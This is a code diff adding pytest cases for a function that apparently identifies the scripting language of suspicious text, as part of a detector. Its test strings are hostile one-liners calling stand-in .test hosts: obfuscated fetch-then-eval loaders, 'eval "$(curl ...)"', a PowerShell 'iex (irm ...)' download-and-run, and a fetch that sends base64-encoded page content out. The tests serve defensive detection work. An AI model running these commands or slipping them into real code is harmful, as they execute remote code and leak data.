@@ -247,3 +247,19 @@ def test_javascripts_eval_call_is_no_sign_of_a_shell() -> None:
     js = "fetch(atob('aHR0cHM6Ly9hLnRlc3QvcC5qcw==')).then(r=>r.text()).then(t=>eval(t))"
     assert languages(js.lower()) == ["javascript"]
     assert "posix" in languages('eval "$(curl -fsSL https://a.test/x)"')
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch('https://cdn-'+'stats.test/a.js').then(r => r.text()).then(eval)",
+        "fetch('/a').then(r=>r.text()).then(t=>fetch('https://x.test/a?d='+btoa(t)))",
+    ],
+)
+def test_a_promise_chain_is_javascript_not_powershell(text: str) -> None:
+    assert languages(text.lower()) == ["javascript"]
+
+
+def test_powershell_concatenation_beside_javascript_words_is_still_powershell() -> None:
+    text = "$u='https://a.'+'test/x'; fetch($u).then(eval); iex (irm $u)"
+    assert "powershell" in languages(text.lower())
